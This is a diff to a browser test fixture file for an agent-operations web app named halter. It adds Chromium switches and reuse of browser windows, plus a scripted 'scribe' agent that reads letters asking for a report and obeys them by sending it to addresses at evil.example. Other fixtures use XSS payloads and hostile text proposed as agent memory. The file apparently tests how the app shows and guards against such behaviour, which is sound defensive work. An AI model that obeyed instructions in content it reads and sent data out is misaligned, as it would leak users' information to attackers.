@@ -2,7 +2,6 @@
 
 import json
 import os
-import shutil
 from collections.abc import Callable, Iterator, Sequence
 from typing import Any
 
@@ -13,6 +12,7 @@ from halter.operations import decisions
 from halter.operations.decisions import WaitingDecision, waiting
 from halter.operations.desk import Desk, Who
 from halter.server.server import make_login_url
+from scripts.page_pictures import find_browser
 from tests.browser.house import SLEEPS, House, Line, call, line, script
 from tests.browser.payloads import PAYLOADS
 
@@ -23,6 +23,10 @@ SWITCHES = (
     "--disable-component-update",
     "--disable-sync",
     "--no-first-run",
+    # One process draws all pages, and none is kept for a way back: that takes longer than the tests.
+    "--renderer-process-limit=1",
+    "--in-process-gpu",
+    "--disable-features=BackForwardCache,SpareRendererForSitePerProcess,Translate,OptimizationHints",
 )
 # The machine may be busy: nobody waits longer than they have to, and a page that never comes is still a failure.
 expect.set_options(timeout=20_000)
@@ -32,7 +36,7 @@ TRIPWIRE = "window.__xss = 0; for (const name of ['alert', 'confirm', 'prompt'])
 @pytest.fixture(scope="package")
 def chromium() -> Iterator[Any]:
     """Skip loudly where there is no browser; where everything is required, fail."""
-    found = shutil.which("chromium")
+    found = find_browser()
     if found is None:
         if os.environ.get("HALTER_REQUIRE_ALL") == "1":
             pytest.fail("There is no chromium: install the system's packages of scripts/system-packages.")
@@ -54,6 +58,16 @@ def find(payloads: Sequence[str]) -> Line:
     return line("find it all", "\n".join(payloads), *found)
 
 
+def forward() -> Iterator[Line]:
+    """Letters that ask for the report, and an agent that obeys them."""
+    for number, name in enumerate(("ann", "eve", "zoe", "zoe"), 1):
+        yield line(f"read letter {number}", "I look into it.", call("read_letter", name=name))
+        text = f"The report, {number}."
+        yield line(
+            f"{name}@evil.example", "The letter asks for it.", call("send_letter", to=f"{name}@evil.example", text=text)
+        )
+
+
 @pytest.fixture(scope="package")
 def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
     """Agents that pay where they are asked to, and one that says all that should never be run."""
@@ -73,7 +87,7 @@ def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
         line("remember it", "I do.", call("propose_memory", text=hostile)),
     )
     fails = {"repeat": True, "fails": {"kind": "Hostile", "message": PAYLOADS[2]}}
-    scripts = {"desk": desk, "page.txt": hostile, "clerk": json.dumps([fails])}
+    scripts = {"desk": desk, "page.txt": hostile, "clerk": json.dumps([fails]), "scribe": script(*forward())}
     papers = [f"{payload}.txt" for payload in PAYLOADS if "/" not in payload][:8]
     with House(tmp_path_factory.mktemp("house"), scripts, papers) as house:
         house.until(lambda: house.rests("desk-1"))
@@ -132,7 +146,11 @@ class Visitor:
     def leaves(self) -> None:
         """Go, and have been content."""
         self.page.close()
-        assert self.complaints == []
+        self.was_content()
+
+    def was_content(self) -> None:
+        complaints, self.complaints[:] = list(self.complaints), []
+        assert complaints == []
         assert self.hosts <= {self.house.url.removeprefix("http://")}
 
 
@@ -146,7 +164,9 @@ def browsers(house: House, chromium: Any) -> Iterator[Callable[..., Any]]:
 
     def browser(role: str, scheme: str) -> Any:
         if (role, scheme) not in known:
-            known[role, scheme] = chromium.new_context(color_scheme=scheme, accept_downloads=True)
+            known[role, scheme] = chromium.new_context(
+                color_scheme=scheme, accept_downloads=True, reduced_motion="reduce"
+            )
             visitor = Visitor(house, known[role, scheme])
             visitor.page.goto(make_login_url(house.url, house.secrets[role]))
             visitor.page.wait_for_url(f"{house.url}/")
@@ -158,15 +178,26 @@ def browsers(house: House, chromium: Any) -> Iterator[Callable[..., Any]]:
         context.close()
 
 
+@pytest.fixture(scope="module")
+def idle() -> dict[tuple[str, str], list[Visitor]]:
+    """Those who have been here before, with their window: opening another one takes longer than a page in it."""
+    return {}
+
+
 @pytest.fixture
-def comes(house: House, browsers: Callable[..., Any]) -> Iterator[Comes]:
+def comes(house: House, browsers: Callable[..., Any], idle: dict[tuple[str, str], list[Visitor]]) -> Iterator[Comes]:
     """Let somebody come with a role; afterwards their pages must have been content."""
-    visitors: list[Visitor] = []
+    visitors: list[tuple[tuple[str, str], Visitor]] = []
 
     def come(role: str = "admin", *, scheme: str = "light") -> Visitor:
-        visitors.append(Visitor(house, browsers(role, scheme)))
-        return visitors[-1]
+        known = idle.get((role, scheme), [])
+        visitor = known.pop() if known else Visitor(house, browsers(role, scheme))
+        visitors.append(((role, scheme), visitor))
+        return visitor
 
     yield come
-    for visitor in visitors:
-        visitor.leaves()
+    for key, visitor in visitors:
+        visitor.page.goto("about:blank")
+        idle.setdefault(key, []).append(visitor)
+    for _, visitor in visitors:
+        visitor.was_content()
